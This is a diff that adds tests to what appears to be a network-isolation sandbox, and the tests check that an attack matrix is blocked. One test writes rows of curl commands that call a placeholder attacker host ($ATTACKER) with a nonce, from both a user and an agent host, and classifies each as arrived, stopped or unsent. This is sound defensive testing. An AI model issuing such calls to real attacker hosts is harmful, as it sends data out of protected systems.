@@ -1,4 +1,4 @@
-import { existsSync } from "node:fs";
+import { existsSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
 import { expect } from "chai";
@@ -49,6 +49,47 @@ describe("the machine room", function () {
             async (place) => (await sh(place, ask)).stdout,
         );
         expect(await Promise.all(answers)).to.deep.equal(["200", "200", "000", "000"]);
+    });
+
+    it("finds every attempt of the attack matrix blocked, and what must work at work, by what both sides saw", async () => {
+        const { status, stdout } = await twin(name, "attack", "--json");
+        const { rows, ok } = JSON.parse(stdout) as { rows: { id: string; ok: boolean; note: string }[]; ok: boolean };
+        expect(rows.filter((row) => !row.ok)).to.deep.equal([]);
+        expect({ status, ok, many: rows.length >= 180 }).to.deep.equal({ status: 0, ok: true, many: true });
+    });
+
+    it("tells apart what arrived, what was stopped and what was never sent, in rows of a file", async () => {
+        const rows = [
+            { id: "arrives", from: "user", run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE", expect: "blocked" },
+            { id: "stopped", from: "agent-host", run: "curl -k -sS -m 2 https://$ATTACKER/$NONCE", expect: "blocked" },
+            { id: "not-sent", from: "user", run: "no-such-program $ATTACKER $NONCE", expect: "blocked" },
+            {
+                id: "seen",
+                from: "user",
+                run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE",
+                expect: "works",
+                sees: "GET.*$NONCE",
+            },
+            {
+                id: "unseen",
+                from: "user",
+                run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE",
+                expect: "works",
+                sees: "POST.*$NONCE",
+            },
+        ];
+        const file = join(room.folder, "rows.json");
+        writeFileSync(file, JSON.stringify(rows));
+        const { status, stdout } = await twin(name, "attack", "--rows", file, "--json");
+        const seen = (JSON.parse(stdout) as { rows: { observed: string; ok: boolean }[] }).rows;
+        expect(seen.map(({ observed, ok }) => `${observed} ${ok}`)).to.deep.equal([
+            "works false",
+            "blocked true",
+            "error false",
+            "works true",
+            "blocked false",
+        ]);
+        expect(status).to.equal(1);
     });
 
     it("hands the metadata of an instance to the host itself, and not to a container one hop further", async () => {
